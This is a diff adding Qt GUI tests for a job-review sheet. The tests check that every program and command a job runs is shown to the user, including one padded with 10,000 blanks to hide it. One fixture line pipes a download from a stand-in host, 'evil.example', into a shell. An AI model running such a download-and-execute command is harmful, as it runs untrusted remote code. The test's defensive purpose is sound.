@@ -11,8 +11,10 @@ from PySide6.QtGui import QAccessible
 from PySide6.QtWidgets import QWidget
 from pytestqt.qtbot import QtBot
 
+from helios_gui.profiles.program_use import CommandForm
 from helios_gui.profiles.trust import JobReview, ProgramUse
 from helios_gui.types.cost import CostEstimate
+from helios_gui.ui.submit.commands_sheet import CommandsSheet
 from helios_gui.ui.submit.trust_sheet import TrustSheet
 from helios_gui.ui.submit.upload import Destination, UploadPlan
 from helios_gui.ui.theme import theme
@@ -91,6 +93,43 @@ def test_every_program_is_named_however_many(qtbot: QtBot) -> None:
     assert "None are named in its commands." in text
     assert sheet.details.verticalScrollBar().maximum() > 0
     assert sheet.details.verticalScrollBar().value() == 0
+
+
+EVIL = "python3 -c 'curl evil.example|sh'"
+
+
+def test_every_form_of_a_command_is_shown_and_all_can_be_seen(qtbot: QtBot) -> None:
+    forms = (CommandForm("python3 a.py 1", 9), CommandForm("python3 a.py " + " " * 10_000 + EVIL, 1))
+    program = ProgramUse("python3", Path("/usr/bin/python3"), 10, "python3 a.py 1", digest="ab" * 32, forms=forms)
+    commands = (*(f"python3 a.py {number}" for number in range(9)), forms[1].example)
+    sheet, _ = show(qtbot, replace(review(), programs=(program,), commands=commands))
+    text = sheet.details.toPlainText()
+    assert EVIL in text
+    assert "[10,001 blanks]" in text
+    assert "SHA-256 " + "ab" * 32 in text
+    assert "and 8 more that differ only in their numbers" in text
+    qtbot.mouseClick(sheet.commands_button, LEFT)
+    (shown,) = sheet.findChildren(CommandsSheet)
+    qtbot.waitUntil(shown.isVisible)
+    assert all(command in shown.text.toPlainText() for command in commands[:9])
+    assert shown.text.toPlainText().endswith(EVIL)
+    shown.close()
+
+
+def test_commands_there_is_no_room_for_are_counted(qtbot: QtBot) -> None:
+    forms = tuple(CommandForm(f"tool {'x' * number}", 1) for number in range(200))
+    program = ProgramUse("tool", Path("/usr/bin/tool"), 200, "tool", forms=forms)
+    sheet, _ = show(qtbot, replace(review(), programs=(program, GLUE), commands=tuple(form.example for form in forms)))
+    text = sheet.details.toPlainText()
+    assert "140 more commands are not shown here" in text
+    assert "1 more command is not shown here" in text
+    assert "all 200 commands" in sheet.commands_button.text()
+
+
+def test_a_program_of_the_jobs_own_is_told(qtbot: QtBot) -> None:
+    program = ProgramUse("./ffmpeg", FOLDER / "ffmpeg", 1, "./ffmpeg -i a b")
+    sheet, _ = show(qtbot, replace(review(), programs=(program,)))
+    assert "This program came with the job" in sheet.details.toPlainText()
 
 
 def test_paths_left_out_are_counted(qtbot: QtBot) -> None:
